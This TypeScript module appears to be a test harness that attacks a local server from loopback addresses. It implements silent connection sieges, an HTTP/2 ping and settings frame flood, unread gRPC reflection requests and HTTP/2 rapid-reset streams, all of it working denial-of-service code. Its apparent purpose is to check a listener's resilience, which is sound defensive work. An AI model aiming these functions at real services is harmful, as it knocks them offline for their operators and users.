// What strangers do to an open listener, bounded and on this machine only: connections that stay silent, questions whose answers nobody reads, and HTTP/2
// frames that cost more than they carry. They come from 127.0.0.2 to .250; whoever is honest comes from 127.0.0.1.
import { type ClientHttp2Session, connect as connectHttp2 } from "node:http2";
import { connect, type Socket } from "node:net";

const hello = Buffer.concat([
  Buffer.from("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"),
  Buffer.from([0, 0, 0, 4, 0, 0, 0, 0, 0]),
]);
const askHealth = Buffer.from("GET /v1/healthz HTTP/1.1\r\nhost: a\r\n\r\n");
/** Whoever is cut comes again after this long: as many as can be without spending the machine's time on it. */
const againMs = 3_000;

const addresses = 249;

export const attackerAddress = (n: number): string => `127.0.0.${2 + (n % addresses)}`;

export interface Siege {
  /** How often one of them was cut, or answered. */
  count(): number;
  end(): void;
}

/** So many connections that send this and no more; whoever is cut comes again. */
export function besiege(
  address: string,
  count: number,
  first: "HTTP/2" | "HTTP/1.1",
  onOpen?: (socket: Socket) => void,
): Siege {
  const [host, port] = address.split(":");
  const sockets = new Set<Socket>();
  let isOver = false;
  let cut = 0;
  let come = 0;
  const enter = (): void => {
    come += 1;
    const socket = connect({ host, port: Number(port), localAddress: attackerAddress(come) });
    sockets.add(socket);
    socket.on("error", () => undefined).on("data", () => undefined);
    socket.once("connect", () => {
      socket.write(first === "HTTP/2" ? hello : askHealth);
      onOpen?.(socket);
    });
    socket.once("close", () => {
      sockets.delete(socket);
      cut += 1;
      if (!isOver) setTimeout(enter, againMs);
    });
  };
  for (let n = 0; n < count; n += 1) enter();
  return {
    count: () => cut,
    end: () => {
      isOver = true;
      for (const socket of sockets) socket.destroy();
    },
  };
}

const ping = Buffer.from([0, 0, 8, 6, 0, 0, 0, 0, 0, 1, 2, 3, 4, 5, 6, 7, 8]);
const settings = Buffer.from([0, 0, 0, 4, 0, 0, 0, 0, 0]);

/** HTTP/2 connections that send pings and settings for as long as they may, a thousand frames ten times a second. */
export function floodFrames(address: string, count: number): Siege {
  const frames = Buffer.concat(Array.from({ length: 500 }, () => Buffer.concat([ping, settings])));
  return besiege(address, count, "HTTP/2", (socket) => {
    const timer = setInterval(() => {
      if (socket.writableLength < 1e6) socket.write(frames);
    }, 100);
    socket.once("close", () => clearInterval(timer));
  });
}

/** A message that asks reflection for every service; 20,000 of them ask for megabytes of answers that nobody reads. */
const question = Buffer.from([0, 0, 0, 0, 3, 0x3a, 0x01, 0x2a]);
const schema = "/grpc.reflection.v1.ServerReflection/ServerReflectionInfo";

/** gRPC sessions that call this path: `begin` is called once, `more` five times a second. */
function sessions(
  address: string,
  count: number,
  act: {
    readonly begin: (ask: () => ReturnType<ClientHttp2Session["request"]>) => void;
    readonly more: (ask: () => ReturnType<ClientHttp2Session["request"]>) => void;
  },
): Siege {
  const open = new Set<ClientHttp2Session>();
  let isOver = false;
  let cut = 0;
  const come = (): void => {
    const [host, port] = address.split(":");
    const session = connectHttp2(`http://${address}`, {
      createConnection: () => connect({ host, port: Number(port), localAddress: attackerAddress(cut) }),
    });
    open.add(session);
    session.on("error", () => undefined);
    const ask = () => {
      const headers = { ":method": "POST", ":path": schema, "content-type": "application/grpc", te: "trailers" };
      return session.request(headers).on("error", () => undefined);
    };
    session.once("connect", () => {
      act.begin(ask);
      const timer = setInterval(() => {
        if (!session.closed && !session.destroyed) act.more(ask);
      }, 200);
      session.once("close", () => clearInterval(timer));
    });
    session.once("close", () => {
      open.delete(session);
      cut += 1;
      if (!isOver) setTimeout(come, againMs);
    });
  };
  for (let n = 0; n < count; n += 1) come();
  return {
    count: () => cut,
    end: () => {
      isOver = true;
      for (const session of open) session.destroy();
    },
  };
}

/** Streams that ask for the schema again and again and read nothing; the server ends them, and they begin anew. */
export function unreadSchemas(address: string, count: number): Siege {
  const questions = Buffer.concat(Array.from({ length: 20_000 }, () => question));
  let ended = 0;
  const siege = sessions(address, count, {
    begin: (ask) => {
      const again = (): void => {
        const stream = ask();
        stream.pause().write(questions);
        stream.once("close", () => {
          ended += 1;
          setTimeout(() => {
            if (stream.session?.destroyed === false) again();
          }, 500);
        });
      };
      for (let n = 0; n < 4; n += 1) again();
    },
    more: () => undefined,
  });
  return { count: () => siege.count() + ended, end: siege.end };
}

/** Calls that are opened and reset at once, a hundred a second on each connection. */
export function rapidResets(address: string, count: number): Siege {
  let reset = 0;
  const siege = sessions(address, count, {
    begin: () => undefined,
    more: (ask) => {
      for (let n = 0; n < 20; n += 1) {
        ask().close(8);
        reset += 1;
      }
    },
  });
  return { count: () => reset, end: siege.end };
}
